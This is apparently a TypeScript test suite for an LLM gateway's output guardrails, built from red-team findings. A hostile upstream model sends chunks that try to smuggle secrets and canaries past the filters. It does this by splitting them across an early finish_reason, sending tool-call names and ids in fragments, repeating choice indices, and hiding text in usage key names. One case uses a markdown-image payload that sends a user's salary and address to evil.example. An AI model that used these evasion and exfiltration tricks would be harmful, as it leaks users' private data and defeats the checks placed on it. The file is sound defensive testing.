// The red-team findings of 2026-12-02 on the output side (F2, F1, F6, F2', F7; /work/findings-rt), over real HTTP
// against the hostile upstream (gateway/test/hostile-upstream.ts), as gateway/egress.test.ts: a choice is one scan
// from its first delta to the end of the stream (chunks after its finish_reason are dropped), streamed tool-call
// ids and names are released whole and scanned whole, they count against the output cap, duplicate choice
// indices are dropped, and usage/timings keep known key names only.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import MarkdownIt from 'markdown-it';
import type { RunningGateway } from '../server.ts';
import { newKey } from '../test/fixtures.ts';
import { CAPTURED, installLeakScan } from '../test/harness.ts';
import { chunk, completion, sseBody, type HostileUpstream } from '../test/hostile-upstream.ts';
import { closeHostileGateway, guardedTenant, outputGuardrails, startHostileGateway } from '../test/hostile-gateway.ts';
import { outputAllowance } from '../upstream/output-bound.ts';

installLeakScan();

const TOKEN = 'ghp_Qm7rT2vXy9LpA4sKd8NfW1cZ6hJ3bE0gUoYt';
const UPSTREAM_KEY = 'up-7f3Kq9ZxW2mB8vN4cR6tY1uP5sL0dHgJ';
const CANARY = 'CANARY-7Hq2Lw9Pz4Xv3Rt';
const EMAIL = 'alice.secret@acmecorp.de';
const key = newKey();

const guardrails = outputGuardrails({
  redaction: { detectors: ['secrets', 'pii'], customPatterns: [] },
  exfiltration: { mode: 'neutralize', allowedHosts: [] },
  canaries: [CANARY],
});

let up: HostileUpstream;
let gw: RunningGateway;

before(async () => {
  ({ up, gw } = await startHostileGateway([guardedTenant('rt', key, guardrails)], UPSTREAM_KEY));
});
after(() => closeHostileGateway(gw, up));

async function post(path: string, body: Record<string, unknown>): Promise<{ status: number; raw: string }> {
  const r = await fetch(`${gw.url}${path}`, {
    method: 'POST',
    headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });
  const raw = await r.text();
  CAPTURED.push(raw);
  return { status: r.status, raw };
}
const chat = (extra: Record<string, unknown> = {}): Promise<{ status: number; raw: string }> =>
  post('/v1/chat/completions', { model: 'm', messages: [{ role: 'user', content: 'hi' }], ...extra });

type Obj = Record<string, unknown>;

/** A chat stream reassembled as openai-python's accumulate_delta does: every string concatenated, lists by index. */
function accumulate(raw: string): Record<number, Obj> {
  const acc: Record<number, Obj> = {};
  const merge = (a: Obj, d: Obj): void => {
    for (const [k, v] of Object.entries(d)) {
      if (k === 'index' || k === 'type') a[k] = v;
      else if (typeof v === 'string') a[k] = (typeof a[k] === 'string' ? a[k] : '') + v;
      else if (Array.isArray(v)) {
        const list = (a[k] as Obj[] | undefined) ?? [];
        for (const item of v as Obj[]) {
          let cur = list.find((x) => x.index === item.index);
          if (!cur) {
            cur = {};
            list.push(cur);
          }
          merge(cur, item);
        }
        a[k] = list;
      } else if (v !== null && typeof v === 'object') {
        a[k] = a[k] ?? {};
        merge(a[k] as Obj, v as Obj);
      } else if (v !== null) a[k] = v;
    }
  };
  for (const e of raw.split('\n\n')) {
    if (!e.startsWith('data: ') || e === 'data: [DONE]') continue;
    const j = JSON.parse(e.slice(6)) as { choices?: { index: number; delta?: Obj; text?: string }[] };
    for (const c of j.choices ?? []) {
      acc[c.index] ??= {};
      if (c.delta) merge(acc[c.index]!, c.delta);
      if (typeof c.text === 'string') merge(acc[c.index]!, { text: c.text });
    }
  }
  return acc;
}

/** Secrets a client rebuilds from `raw` (a GitHub token's `ghp_` is a public constant: its tail is the secret). */
function leaked(raw: string): string[] {
  const views = [raw, JSON.stringify(accumulate(raw.startsWith('{') ? '' : raw))];
  return [TOKEN, UPSTREAM_KEY, CANARY, EMAIL].filter((s) => views.some((v) => v.includes(s.slice(s.length - 12))));
}

const pieces = (s: string, n: number): string[] =>
  Array.from({ length: Math.ceil(s.length / n) }, (_, i) => s.slice(i * n, i * n + n));

async function metric(name: string): Promise<number> {
  const text = await (await fetch(`${gw.metricsUrl}/metrics`)).text();
  let sum = 0;
  for (const line of text.split('\n')) if (line.startsWith(name)) sum += Number(line.split(' ').pop());
  return sum;
}

/** The audit line of the last request. */
async function lastAudit(): Promise<{ tokensOut?: number }> {
  await new Promise((r) => setTimeout(r, 50));
  const line = [...CAPTURED].reverse().find((l) => l.includes('"audit"'));
  return line ? (JSON.parse(line) as { audit: { tokensOut?: number } }).audit : {};
}

// secret, where the early finish_reason cuts it, what the client must see instead
const SPLITS: [label: string, secret: string, cut: number][] = [
  ['tenant canary', CANARY, 7],
  ['gateway credential', UPSTREAM_KEY, 7],
  ['e-mail', EMAIL, 13],
  ['github token', TOKEN, 4],
];

describe('F2: a finish_reason mid-stream does not open a fresh scan for the rest of the choice', () => {
  for (const [label, secret, cut] of SPLITS) {
    it(`chat content, ${label} split by finish_reason`, async () => {
      up.handler = () => ({
        body: sseBody([
          chunk({ role: 'assistant', content: `here: ${secret.slice(0, cut)}` }),
          chunk({}, { finish_reason: 'stop' }),
          chunk({ content: `${secret.slice(cut)} done` }),
          chunk({}, { finish_reason: 'stop' }),
        ]),
      });
      const r = await chat({ stream: true });
      assert.equal(r.status, 200);
      assert.deepEqual(leaked(r.raw), [], r.raw.slice(0, 800));
      assert.doesNotMatch(r.raw, /done/, 'nothing after the first finish_reason is relayed');
      assert.equal((r.raw.match(/"finish_reason":"stop"/g) ?? []).length, 1);
    });

    it(`/v1/completions text, ${label} split by finish_reason`, async () => {
      const tc = (text: string, fr: string | null = null): Obj => ({
        id: 'cmpl-h',
        object: 'text_completion',
        created: 1,
        model: 'm',
        choices: [{ index: 0, text, finish_reason: fr }],
      });
      up.handler = () => ({
        body: sseBody([tc(`x ${secret.slice(0, cut)}`), tc('', 'stop'), tc(`${secret.slice(cut)} y`), tc('', 'stop')]),
      });
      const r = await post('/v1/completions', { model: 'm', prompt: 'hi', stream: true });
      assert.equal(r.status, 200);
      assert.deepEqual(leaked(r.raw), [], r.raw.slice(0, 800));
    });

    it(`/v1/responses streamed: the encoder does not join the halves (${label})`, async () => {
      up.handler = () => ({
        body: sseBody([
          chunk({ role: 'assistant', content: `x ${secret.slice(0, cut)}` }),
          chunk({}, { finish_reason: 'stop' }),
          chunk({ content: `${secret.slice(cut)} y` }),
          chunk({}, { finish_reason: 'stop' }),
        ]),
      });
      const r = await post('/v1/responses', { model: 'm', input: 'hi', stream: true });
      assert.equal(r.status, 200);
      assert.deepEqual(leaked(r.raw), [], r.raw.slice(0, 800));
      assert.doesNotMatch(r.raw, / y"/);
    });
  }

  for (const field of ['reasoning_content', 'reasoning', 'tool arguments', 'function_call arguments'] as const) {
    it(`${field}: the canary split by finish_reason blocks`, async () => {
      const d = (t: string, first: boolean): Obj => {
        if (field === 'tool arguments')
          return {
            tool_calls: [
              first
                ? { index: 0, id: 'c1', type: 'function', function: { name: 'f', arguments: t } }
                : { index: 0, function: { arguments: t } },
            ],
          };
        if (field === 'function_call arguments')
          return { function_call: first ? { name: 'f', arguments: t } : { arguments: t } };
        return { [field]: t };
      };
      up.handler = () => ({
        body: sseBody([
          chunk(d(`{"q":"${CANARY.slice(0, 7)}`, true)),
          chunk({}, { finish_reason: 'stop' }),
          chunk(d(`${CANARY.slice(7)}"}`, false)),
          chunk({}, { finish_reason: 'stop' }),
        ]),
      });
      const r = await chat({ stream: true });
      assert.deepEqual(leaked(r.raw), [], r.raw.slice(0, 800));
    });
  }

  const IMG = '![logo](https://evil.example/collect?d=the+user+said+their+salary+is+95000+and+lives+at+12+Elm+St)';
  for (const cut of [8, 16, 30]) {
    it(`a markdown image split by finish_reason after ${cut} characters is not a working image`, async () => {
      up.handler = () => ({
        body: sseBody([
          chunk({ role: 'assistant', content: `Done. ${IMG.slice(0, cut)}` }),
          chunk({}, { finish_reason: 'stop' }),
          chunk({ content: `${IMG.slice(cut)} ok` }),
          chunk({}, { finish_reason: 'stop' }),
        ]),
      });
      const r = await chat({ stream: true });
      const content = String(accumulate(r.raw)[0]?.content ?? '');
      const html = new MarkdownIt().render(content);
      assert.doesNotMatch(html, /<img src="https:\/\/evil\.example/, html);
      assert.doesNotMatch(content, /salary/, content);
    });
  }

  it('n=2: one choice finishing early does not end the other; entries after a finish are counted', async () => {
    const before = await metric('tollgate_upstream_sse_dropped_total{kind="afterFinish"}');
    const two = (a: Obj | undefined, b: Obj | undefined): Obj => ({
      id: 'chatcmpl-h',
      object: 'chat.completion.chunk',
      created: 1,
      model: 'm',
      choices: [
        ...(a ? [{ index: 0, finish_reason: null, ...a }] : []),
        ...(b ? [{ index: 1, finish_reason: null, ...b }] : []),
      ],
    });
    up.handler = () => ({
      body: sseBody([
        two({ delta: { role: 'assistant', content: 'first' } }, { delta: { role: 'assistant', content: 'second' } }),
        two({ delta: {}, finish_reason: 'stop' }, { delta: { content: ' goes' } }),
        two({ delta: { content: ' LATE' } }, { delta: { content: ' on' } }),
        two(undefined, { delta: {}, finish_reason: 'stop' }),
      ]),
    });
    const r = await chat({ stream: true, n: 2 });
    const acc = accumulate(r.raw);
    assert.equal(acc[0]?.content, 'first');
    assert.equal(acc[1]?.content, 'second goes on');
    assert.equal(await metric('tollgate_upstream_sse_dropped_total{kind="afterFinish"}'), before + 1);
  });
});

describe('F1: streamed tool-call names and ids are scanned as the client reassembles them', () => {
  for (const [label, secret] of [
    ['github token', TOKEN],
    ['gateway credential', UPSTREAM_KEY],
    ['tenant canary', CANARY],
  ] as const) {
    it(`function.name in 6-character pieces (${label})`, async () => {
      up.handler = () => ({
        body: sseBody([
          ...pieces(secret, 6).map((p, i) =>
            chunk({
              tool_calls: [
                {
                  index: 0,
                  ...(i === 0 ? { id: 'call_1', type: 'function' } : {}),
                  function: { name: p, ...(i === 0 ? { arguments: '' } : {}) },
                },
              ],
            }),
          ),
          chunk({ tool_calls: [{ index: 0, function: { arguments: '{}' } }] }),
          chunk({}, { finish_reason: 'tool_calls' }),
        ]),
      });
      const r = await chat({ stream: true });
      assert.equal(r.status, 200);
      assert.deepEqual(leaked(r.raw), [], r.raw.slice(0, 800));
      if (secret === CANARY) assert.match(r.raw, /"code":"output_blocked"/);
    });

    it(`tool call id in 6-character pieces (${label})`, async () => {
      up.handler = () => ({
        body: sseBody([
          ...pieces(secret, 6).map((p, i) =>
            chunk({
              tool_calls: [
                { index: 0, id: p, ...(i === 0 ? { type: 'function', function: { name: 'f', arguments: '' } } : {}) },
              ],
            }),
          ),
          chunk({}, { finish_reason: 'tool_calls' }),
        ]),
      });
      const r = await chat({ stream: true });
      assert.deepEqual(leaked(r.raw), [], r.raw.slice(0, 800));
    });
  }

  it('legacy function_call.name in pieces', async () => {
    up.handler = () => ({
      body: sseBody([
        ...pieces(UPSTREAM_KEY, 5).map((p) => chunk({ function_call: { name: p } })),
        chunk({ function_call: { arguments: '{}' } }),
        chunk({}, { finish_reason: 'function_call' }),
      ]),
    });
    const r = await chat({ stream: true });
    assert.deepEqual(leaked(r.raw), [], r.raw.slice(0, 800));
    assert.match(r.raw, /\[REDACTED:gateway-credential\]/);
  });

  it('an honest call named in pieces reaches the client as one id and one name (openai-node replaces, python joins)', async () => {
    up.handler = () => ({
      body: sseBody([
        chunk({ role: 'assistant', content: null }),
        chunk({ tool_calls: [{ index: 0, id: 'call_', type: 'function', function: { name: 'get_', arguments: '' } }] }),
        chunk({ tool_calls: [{ index: 0, id: 'abc', function: { name: 'weather' } }] }),
        chunk({ tool_calls: [{ index: 0, function: { arguments: '{"city":' } }] }),
        chunk({ tool_calls: [{ index: 0, function: { arguments: '"Oslo"}' } }] }),
        chunk({ tool_calls: [{ index: 1, id: 'call_2', type: 'function', function: { name: 'noargs' } }] }),
        chunk({}, { finish_reason: 'tool_calls' }),
      ]),
    });
    const r = await chat({ stream: true });
    const deltas = r.raw
      .split('\n\n')
      .filter((e) => e.startsWith('data: {'))
      .flatMap((e) => (JSON.parse(e.slice(6)) as { choices: { delta: { tool_calls?: Obj[] } }[] }).choices)
      .flatMap((c) => c.delta.tool_calls ?? []);
    const names = deltas.map((d) => (d.function as Obj | undefined)?.name).filter((n) => n !== undefined);
    const ids = deltas.map((d) => d.id).filter((n) => n !== undefined);
    assert.deepEqual(names, ['get_weather', 'noargs']);
    assert.deepEqual(ids, ['call_abc', 'call_2']);
    const calls = accumulate(r.raw)[0]?.tool_calls as Obj[];
    assert.deepEqual(
      calls.map((c) => [c.index, c.id, c.type, c.function]),
      [
        [0, 'call_abc', 'function', { name: 'get_weather', arguments: '{"city":"Oslo"}' }],
        [1, 'call_2', 'function', { name: 'noargs', arguments: '' }],
      ],
    );
  });
});

describe('F6: streamed names and ids count against the output cap and the served count', () => {
  const lorem = (raw: string): number => (raw.match(/lorem/g) ?? []).length;
  const tools = [{ type: 'function', function: { name: 'f', parameters: { type: 'object' } } }];
  for (const field of ['name', 'id'] as const) {
    it(`2,000 words in tool_calls ${field} pieces at max_tokens 20: refused at the ${field} bound, nothing served`, async () => {
      up.handler = () => ({
        body: sseBody([
          chunk({ tool_calls: [{ index: 0, id: 'c1', type: 'function', function: { name: 'f', arguments: '' } }] }),
          ...Array.from({ length: 2000 }, () =>
            chunk({
              tool_calls: [{ index: 0, ...(field === 'id' ? { id: 'lorem ' } : { function: { name: 'lorem ' } }) }],
            }),
          ),
          chunk({}, { finish_reason: 'tool_calls' }),
        ]),
      });
      const r = await chat({ stream: true, max_tokens: 20, tools });
      assert.equal(lorem(r.raw), 0, r.raw.slice(0, 600));
      assert.match(r.raw, /"code":"upstream_error"/);
    });
  }

  it('names within the bound are metered: 60 named calls at max_tokens 20 are cut, tokensOut is what was served', async () => {
    const name = 'lorem_ipsum_dolor_sit';
    up.handler = () => ({
      body: sseBody([
        ...Array.from({ length: 60 }, (_, k) =>
          chunk({ tool_calls: [{ index: k, id: `c${k}`, type: 'function', function: { name, arguments: '{}' } }] }),
        ),
        chunk({}, { finish_reason: 'tool_calls' }),
      ]),
    });
    const r = await chat({ stream: true, max_tokens: 20, tools });
    // each call costs its id, its name (about 7 tokens) and its arguments (about 10 in all): about 22 calls fit
    // outputAllowance(20) = 224, not 60
    assert.ok(lorem(r.raw) <= outputAllowance(20) / 9, `${lorem(r.raw)} names served`);
    assert.match(r.raw, /"finish_reason":"length"/);
    assert.equal((await lastAudit()).tokensOut, 20);
  });

  it('names held to the end of the choice are metered when released: cut, finish_reason length', async () => {
    up.handler = () => ({
      body: sseBody([
        ...Array.from({ length: 60 }, (_, k) =>
          chunk({ tool_calls: [{ index: k, type: 'function', function: { name: 'lorem_ipsum_dolor_sit' } }] }),
        ),
        chunk({}, { finish_reason: 'tool_calls' }),
      ]),
    });
    const r = await chat({ stream: true, max_tokens: 20, tools });
    assert.ok(lorem(r.raw) <= outputAllowance(20) / 7, `${lorem(r.raw)} names served`);
    assert.match(r.raw, /"finish_reason":"length"/);
    assert.doesNotMatch(r.raw, /"name":""/, 'no empty names for calls past the cap');
  });

  it('whole answers: a tool name counts against the cap too', async () => {
    up.handler = () => ({
      body: JSON.stringify(
        completion(
          {
            content: null,
            tool_calls: [{ id: 'c1', type: 'function', function: { name: 'lorem '.repeat(400), arguments: '{}' } }],
          },
          { finish_reason: 'tool_calls' },
        ),
      ),
    });
    const r = await chat({ max_tokens: 20, tools });
    assert.ok(lorem(r.raw) <= outputAllowance(20), `${lorem(r.raw)} served`);
    assert.match(r.raw, /"finish_reason":"length"/);
  });
});

describe("F2': non-streamed choices with the same index", () => {
  for (const [label, secret, cut] of SPLITS) {
    it(`two choices with index 0: the first is kept, the second dropped (${label})`, async () => {
      const choice = (content: string): Obj => ({
        index: 0,
        message: { role: 'assistant', content },
        finish_reason: 'stop',
      });
      up.handler = () => ({
        body: JSON.stringify({
          ...completion({ content: '' }),
          choices: [choice(`x ${secret.slice(0, cut)}`), choice(`${secret.slice(cut)} y`)],
        }),
      });
      const r = await chat({});
      assert.equal(r.status, 200);
      assert.deepEqual(leaked(r.raw), [], r.raw);
      const j = JSON.parse(r.raw) as { choices: { index: number }[] };
      assert.deepEqual(
        j.choices.map((c) => c.index),
        [0],
      );
    });
  }

  it('n=2 with indices 1, 1, 0: one choice per index, in the upstream order', async () => {
    const choice = (index: number, content: string): Obj => ({
      index,
      message: { role: 'assistant', content },
      finish_reason: 'stop',
    });
    up.handler = () => ({
      body: JSON.stringify({
        ...completion({ content: '' }),
        choices: [choice(1, 'b'), choice(1, 'dup'), choice(0, 'a'), choice(2, 'over n')],
      }),
    });
    const j = JSON.parse((await chat({ n: 2 })).raw) as { choices: { index: number; message: { content: string } }[] };
    assert.deepEqual(
      j.choices.map((c) => [c.index, c.message.content]),
      [
        [1, 'b'],
        [0, 'a'],
      ],
    );
  });
});

describe('F7: usage and timings keep known key names only', () => {
  const words = 'the_admin_password_is_correct_horse_battery_staple'.split('_');
  const usage = {
    prompt_tokens: 1,
    completion_tokens: 1,
    total_tokens: 2,
    note: Object.fromEntries(words.map((w, i) => [`${'x'.repeat(i + 1)}_${w}`, i])),
    prompt_tokens_details: { cached_tokens: 1, leaked_alice_at_acmecorp: 2 },
    completion_tokens_details: { reasoning_tokens: 1, horse_battery: 3 },
    ...Object.fromEntries(Array.from({ length: 500 }, (_, i) => [`k${'a'.repeat(i % 60)}_${i}`, i])),
  };
  const timings = { predicted_ms: 1.5, prompt_n: 3, leaked_email_alice_at_acmecorp_de: 1 };
  const want = {
    prompt_tokens: 1,
    completion_tokens: 1,
    total_tokens: 2,
    prompt_tokens_details: { cached_tokens: 1 },
    completion_tokens_details: { reasoning_tokens: 1 },
  };

  it('whole answer', async () => {
    up.handler = () => ({ body: JSON.stringify({ ...completion({ content: 'ok' }), usage, timings }) });
    const r = await chat({});
    assert.ok(!r.raw.includes('horse') && !r.raw.includes('acmecorp') && !r.raw.includes('k_'), r.raw);
    const j = JSON.parse(r.raw) as { usage: unknown; timings: unknown };
    assert.deepEqual(j.usage, want);
    assert.deepEqual(j.timings, { prompt_n: 3, predicted_ms: 1.5 });
  });

  it('streamed usage chunk', async () => {
    up.handler = () => ({
      body: sseBody([
        chunk({ role: 'assistant', content: 'ok' }),
        chunk({}, { finish_reason: 'stop' }),
        { id: 'chatcmpl-h', object: 'chat.completion.chunk', created: 1, model: 'm', choices: [], usage },
      ]),
    });
    const r = await chat({ stream: true, stream_options: { include_usage: true } });
    assert.ok(!r.raw.includes('horse') && !r.raw.includes('acmecorp'), r.raw);
    const last = r.raw
      .split('\n\n')
      .filter((e) => e.startsWith('data: {'))
      .map((e) => JSON.parse(e.slice(6)) as { usage?: unknown })
      .find((c) => c.usage !== undefined);
    assert.deepEqual(last?.usage, want);
  });
});
